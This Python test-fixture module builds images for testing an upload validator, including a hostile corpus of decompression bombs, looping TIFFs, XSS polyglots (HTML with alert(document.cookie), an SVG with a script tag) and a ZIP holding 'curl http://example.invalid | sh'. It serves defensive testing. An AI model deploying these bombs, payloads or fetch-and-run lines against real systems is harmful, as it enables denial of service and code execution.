"""Photos for the tests, made on the spot: good ones of every kind, and a hostile corpus."""

import gzip
import io
import struct
import zipfile
import zlib

import numpy as np
import tifffile
from PIL import Image
from PIL.ExifTags import IFD

GPS = {1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 0.0)}
COPYRIGHT = "(c) 2026 Lumen Studio"
ARTIST = "Ada Lens"
CREDIT = "Lumen Studio / Ada Lens"
XMP_WITH_GPS = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    'xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" '
    'xmlns:exif="http://ns.adobe.com/exif/1.0/" '
    f'photoshop:Credit="{CREDIT}" exif:GPSLatitude="52,31.2N" exif:GPSLongitude="13,24.0E"/>'
    "</rdf:RDF></x:xmpmeta>"
).encode()


def picture(width: int = 640, height: int = 480, seed: int = 0) -> Image.Image:
    """A photo-like image: smooth gradients plus noise, so JPEG sizes are realistic."""
    rng = np.random.default_rng(seed)
    y, x = np.mgrid[0:height, 0:width]
    base = np.stack([x * 255 / width, y * 255 / height, (x + y) * 127 / (width + height)], -1)
    noise = rng.normal(0, 12, size=base.shape)
    return Image.fromarray(np.clip(base + noise, 0, 255).astype(np.uint8))


def private_exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "Canon"
    exif[0x0110] = "EOS R5"
    exif[0x013B] = ARTIST
    exif[0x8298] = COPYRIGHT
    exif[0x0112] = orientation
    exif[IFD.Exif] = {
        0x9003: "2026:05:01 10:00:00",
        0xA431: "BODY-SERIAL-0042",
        0xA430: "Owner Name",
        0x927C: b"maker-note-bytes",
    }
    exif[IFD.GPSInfo] = GPS
    return exif


def jpeg(width=640, height=480, *, seed=0, orientation=1, quality=90) -> bytes:
    out = io.BytesIO()
    picture(width, height, seed).save(
        out, "JPEG", quality=quality, exif=private_exif(orientation).tobytes(), xmp=XMP_WITH_GPS
    )
    return out.getvalue()


BETWEEN_SCANS_COMMENT = b"Shot at 52.5200N 13.4050E, home of Owner Name"


def progressive_jpeg(width=640, height=480, *, seed=11) -> bytes:
    """A progressive JPEG with private EXIF (GPS, serial) and a comment also *between* its scans.

    Decoders read segments anywhere before EOI, so metadata there is as real as in the header.
    """
    out = io.BytesIO()
    picture(width, height, seed).save(
        out,
        "JPEG",
        quality=90,
        progressive=True,
        exif=private_exif().tobytes(),
        xmp=XMP_WITH_GPS,
    )
    data = out.getvalue()
    second_scan = data.find(b"\xff\xda", data.find(b"\xff\xda") + 2)
    hidden = _jpeg_segment(0xE1, b"Exif\x00\x00" + private_exif().tobytes())
    hidden += _jpeg_segment(0xFE, BETWEEN_SCANS_COMMENT)
    return data[:second_scan] + hidden + data[second_scan:]


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def png(width=320, height=240, *, seed=1) -> bytes:
    out = io.BytesIO()
    image = picture(width, height, seed)
    image.save(out, "PNG", exif=private_exif().tobytes())
    return out.getvalue()


def tiff16(width=300, height=200) -> bytes:
    out = io.BytesIO()
    Image.fromarray(np.full((height, width), 40000, np.uint16)).save(out, "TIFF")
    return out.getvalue()


def tiff(width=300, height=200, *, seed=2) -> bytes:
    out = io.BytesIO()
    picture(width, height, seed).save(out, "TIFF", exif=private_exif().tobytes())
    return out.getvalue()


def heic(width=320, height=240, *, seed=3) -> bytes:
    out = io.BytesIO()
    picture(width, height, seed).save(out, "HEIF", exif=private_exif().tobytes())
    return out.getvalue()


def heic_burst(images: int = 3, *, seed: int = 18) -> bytes:
    """A HEIC holding a burst: top-level images, the primary first and larger than the others."""
    first, *rest = [picture(320, 240, seed)] + [picture(64, 48, seed + n) for n in range(1, images)]
    out = io.BytesIO()
    first.save(out, "HEIF", save_all=True, append_images=rest)
    return out.getvalue()


def tiff_pages(pages: int = 3, *, seed: int = 17) -> bytes:
    """A multi-page TIFF as a scanner writes a document: a photo first, then (small) pages."""
    first = picture(300, 200, seed)
    rest = [Image.new("L", (16, 16), n % 256) for n in range(1, pages)]
    out = io.BytesIO()
    first.save(out, "TIFF", save_all=True, append_images=rest)
    return out.getvalue()


def tiff_looping() -> bytes:
    """A 2-page TIFF whose last directory links back to the first: a chain without an end."""
    data = bytearray(tiff_pages(2))
    first = at = int.from_bytes(data[4:8], "little")
    while True:
        link = at + 2 + 12 * int.from_bytes(data[at : at + 2], "little")
        at = int.from_bytes(data[link : link + 4], "little")
        if at == 0:
            data[link : link + 4] = first.to_bytes(4, "little")
            return bytes(data)


def apng(frames: int = 1000) -> bytes:
    """An animated PNG of tiny frames, each unlike the one before (Pillow merges equal ones)."""
    images = [Image.new("RGB", (8, 8), (n % 256, n // 256, 0)) for n in range(frames)]
    out = io.BytesIO()
    images[0].save(out, "PNG", save_all=True, append_images=images[1:])
    return out.getvalue()


def dng(width=256, height=192, *, seed=4, orientation=1, preview=None) -> bytes:
    """A minimal DNG: a colour filter array in a SubIFD and an RGB preview in IFD0.

    LibRaw (rawpy) opens it and hands back the preview, as it does for a camera's RAW file;
    like a camera's, the preview is stored as the sensor saw it and `orientation` says how to
    turn it (6: the camera was held upright). `preview`, an RGB array, replaces the default
    half-size picture.
    """
    rng = np.random.default_rng(seed)
    cfa = rng.integers(200, 3800, size=(height, width)).astype(np.uint16)
    if preview is None:
        preview = np.asarray(picture(width // 2, height // 2, seed))
    out = io.BytesIO()
    with tifffile.TiffWriter(out) as writer:
        writer.write(
            preview,
            photometric="rgb",
            subfiletype=1,
            subifds=1,
            extratags=[
                (50706, "B", 4, (1, 4, 0, 0), True),  # DNGVersion
                (50707, "B", 4, (1, 1, 0, 0), True),
                (271, "s", 0, "Canon", True),
                (272, "s", 0, "EOS R5", True),
                (50708, "s", 0, "Canon EOS R5", True),
                (274, "H", 1, orientation, True),  # Orientation
            ],
        )
        writer.write(
            cfa,
            photometric=32803,
            subfiletype=0,
            extratags=[
                (33421, "H", 2, (2, 2), True),  # CFARepeatPatternDim
                (33422, "B", 4, (0, 1, 1, 2), True),  # CFAPattern: RGGB
                (50717, "I", 1, 4095, True),  # WhiteLevel
            ],
        )
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_corrupt_exif(width=320, height=240, *, seed=10) -> bytes:
    """A whole, decodable PNG whose eXIf chunk is not a TIFF structure (Pillow: SyntaxError)."""
    out = io.BytesIO()
    picture(width, height, seed).save(out, "PNG")
    data = out.getvalue()
    idat = data.find(b"IDAT") - 4
    return data[:idat] + _png_chunk(b"eXIf", b"garbage, not a TIFF header") + data[idat:]


def png_bomb(side: int = 100_000) -> bytes:
    """A valid PNG header claiming side × side pixels, with a tiny compressed body."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    body = zlib.compress(b"\x00" * 1024)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


def large_png(width: int, height: int, *, alpha: bool = False, seed: int = 16) -> bytes:
    """A photo-sized PNG (RGB, or RGBA with varying alpha), written a row at a time so that
    making it never holds its pixels: a gradient with fine noise, quick to compress."""
    channels = 4 if alpha else 3
    rng = np.random.default_rng(seed)
    texture = rng.integers(0, 4, size=(61, width * channels), dtype=np.uint8)
    ramp = (np.arange(width * channels) * 200 // (width * channels)).astype(np.uint8)
    compressor = zlib.compressobj(1)
    rows = (
        compressor.compress(b"\x00" + (ramp + texture[y % 61] + y * 40 // height).tobytes())
        for y in range(height)
    )
    body = b"".join(rows) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 6 if alpha else 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", body)
        + _png_chunk(b"IEND", b"")
    )


def jpeg_bomb() -> bytes:
    """A small JPEG whose frame header claims 60000 × 60000 pixels."""
    data = bytearray(jpeg(64, 64))
    sof = data.find(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", 60000, 60000)
    return bytes(data)


def tiff_strip_bomb(width: int = 64, height: int = 1_000_000) -> bytes:
    """A TIFF of width × height pixels, one row per strip, every strip pointing at one row's bytes.

    The outside test's file: 8 MB (the strip table) for 64 megapixels, a million strips to decode.
    """
    row = bytes(range(width))
    strips_at = 8 + len(row)
    counts_at = strips_at + 4 * height
    directory_at = counts_at + 4 * height
    entries = [  # tag, type (3 SHORT, 4 LONG), count, value or offset
        (256, 3, 1, width),
        (257, 4, 1, height),
        (258, 3, 1, 8),
        (259, 3, 1, 1),  # no compression
        (262, 3, 1, 1),  # black is zero
        (273, 4, height, strips_at),
        (277, 3, 1, 1),
        (278, 4, 1, 1),  # one row per strip
        (279, 4, height, counts_at),
    ]
    directory = struct.pack("<H", len(entries)) + b"".join(
        struct.pack("<HHIHH" if kind == 3 else "<HHII", tag, kind, count, value, *[0][: 4 - kind])
        for tag, kind, count, value in entries
    )
    return (
        b"II*\x00"
        + struct.pack("<I", directory_at)
        + row
        + struct.pack(f"<{height}I", *[8] * height)
        + struct.pack(f"<{height}I", *[width] * height)
        + directory
        + b"\x00\x00\x00\x00"
    )


COMMENT = b"Client: Jane Example, mobile +49 170 1234567, wants the retouched set"


def jpeg_with_comment(comment: bytes = COMMENT, *, seed: int = 12) -> bytes:
    """A JPEG with its comment in COM segments after SOI (64 KB each, as long as it takes)."""
    data = jpeg(seed=seed)
    pieces = [comment[at : at + 65_533] for at in range(0, len(comment), 65_533)]
    return data[:2] + b"".join(_jpeg_segment(0xFE, piece) for piece in pieces) + data[2:]


def png_with_comment(comment: bytes = COMMENT, *, seed: int = 13) -> bytes:
    """A PNG with a text chunk named `comment`: Pillow reads it as the image's comment."""
    data = png(seed=seed)
    iend = data.rfind(b"IEND") - 4
    return data[:iend] + _png_chunk(b"tEXt", b"comment\x00" + comment) + data[iend:]


def zip_archive(compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP of a web page and a script, as a polyglot appends it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        archive.writestr("index.html", HTML * 20)
        archive.writestr("run.sh", b"#!/bin/sh\ncurl http://example.invalid | sh\n" * 20)
    return out.getvalue()


def mpo(*, seed: int = 14, claimed: int = 2) -> bytes:
    """A multi-picture JPEG as stereo and some phone cameras write it: a second JPEG appended,
    and an MP index (APP2 "MPF") in the first one's header that lists both.

    With `claimed`, the index lists that many images, all but the first being the second JPEG.
    """
    first, second = jpeg(seed=seed), jpeg(320, 240, seed=seed + 1)
    at = first.find(b"\xff\xdb")  # after the APP0 and APP1 segments, as cameras place it
    length = len(_mp_index([(0, 0, 0)] * claimed))
    # Offsets count from the index's TIFF header, after the marker, its length and "MPF\0".
    second_at = len(first) + length - (at + 8)
    index = _mp_index(
        [(0x030000, len(first) + length, 0)] + [(0x020002, len(second), second_at)] * (claimed - 1)
    )
    return first[:at] + index + first[at:] + second


def _mp_index(entries: list[tuple[int, int, int]]) -> bytes:
    """An APP2 MP index segment: version, NumberOfImages, and one MP entry (attribute, size,
    offset) per image."""
    fields = [
        struct.pack("<HHI4s", 0xB000, 7, 4, b"0100"),
        struct.pack("<HHII", 0xB001, 4, 1, len(entries)),
        struct.pack("<HHII", 0xB002, 7, 16 * len(entries), 8 + 2 + 12 * 3 + 4),
    ]
    tiff = b"II*\x00" + struct.pack("<IH", 8, len(fields)) + b"".join(fields) + bytes(4)
    tiff += b"".join(struct.pack("<IIIHH", *entry, 0, 0) for entry in entries)
    return _jpeg_segment(0xE2, b"MPF\x00" + tiff)


def motion_photo(*, seed: int = 15) -> bytes:
    """A JPEG with a phone's trailer appended: a video (here 2 MB of random bytes) and its tag."""
    video = np.random.default_rng(seed).bytes(2_000_000)
    return jpeg(seed=seed) + b"\x00\x00\x00\x18ftypmp42" + video + b"MotionPhoto_Data"


EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nnewpath 0 0 moveto showpage\n"
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>"
)
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def odd() -> dict[str, bytes]:
    """Odd but usable photos by name: accepted at upload, and every size is made from them."""
    return {
        "corrupt-exif.png": png_with_corrupt_exif(),
        "comment.jpg": jpeg_with_comment(),
        "long-comment.jpg": jpeg_with_comment(COMMENT * 30_000),  # 2 MB in 32 COM segments
        "comment.png": png_with_comment(),
        "stereo.mpo.jpg": mpo(),
        "motion-photo.jpg": motion_photo(),
        "scan-3-pages.tif": tiff_pages(3),
        "burst.heic": heic_burst(3),
    }


def hostile() -> dict[str, tuple[bytes, set[str]]]:
    """Hostile or broken files by name: (content, the rejection codes that fit it)."""
    good_jpeg, good_png, good_heic = jpeg(seed=9), png(seed=9), heic(seed=9)
    files = {
        "empty.jpg": (b"", "empty"),
        "bomb.png": (png_bomb(), "too_many_pixels"),
        "bomb.jpg": (jpeg_bomb(), "too_many_pixels"),
        "truncated.jpg": (good_jpeg[: len(good_jpeg) // 2], "truncated"),
        "truncated.png": (good_png[: len(good_png) // 2], "truncated"),
        # x265 output varies run to run, so where the cut lands (and what libheif says) varies.
        "truncated.heic": (good_heic[: len(good_heic) // 2], {"corrupt", "truncated"}),
        "truncated.dng": (dng()[:600], "corrupt"),
        "polyglot.png": (good_png + HTML, "trailing_data"),
        "polyglot.jpg": (good_jpeg + HTML, "trailing_data"),
        "drawing.jpg": (EPS, "unsupported_type"),
        "vector.jpg": (SVG, "unsupported_type"),
        "page.png": (HTML, "unsupported_type"),
        "animation.jpg": (b"GIF89a" + b"\x00" * 100, "unsupported_type"),
        "noise.jpg": (np.random.default_rng(5).bytes(5000), "unsupported_type"),
        "garbage-body.jpg": (good_jpeg[:400] + b"\x00" * 3000 + b"\xff\xd9", "truncated"),
        "garbage.tif": (b"II*\x00" + b"\x08\x00\x00\x00" + b"\xff" * 500, "corrupt"),
        "garbage.heic": (good_heic[:40] + b"\x00" * 400, "corrupt"),
        "strip-bomb.tif": (tiff_strip_bomb(), "too_many_strips"),
        "shared-strips.tif": (tiff_strip_bomb(64, 2000), "corrupt"),
        "animation-1000-frames.png": (apng(1000), "too_many_frames"),
        "document-200-pages.tif": (tiff_pages(200), "too_many_frames"),
        "looping-pages.tif": (tiff_looping(), "corrupt"),
        "mpo-claiming-500.jpg": (mpo(claimed=500), "too_many_frames"),
        "polyglot-zip.jpg": (good_jpeg + zip_archive(), "trailing_data"),
        "polyglot-stored-zip.jpg": (good_jpeg + zip_archive(zipfile.ZIP_STORED), "trailing_data"),
        "polyglot-gzip.jpg": (good_jpeg + gzip.compress(HTML), "trailing_data"),
        "polyglot-7z.jpg": (good_jpeg + b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24), "trailing_data"),
        "polyglot-zip-after-mpo.jpg": (mpo() + zip_archive(), "trailing_data"),
        "polyglot-zip.tif": (tiff(seed=9) + zip_archive(), "trailing_data"),
        "polyglot-zip.heic": (good_heic + zip_archive(), "trailing_data"),
        "polyglot.heic": (good_heic + HTML, "trailing_data"),
    }
    return {
        name: (data, {codes} if isinstance(codes, str) else codes)
        for name, (data, codes) in files.items()
    }
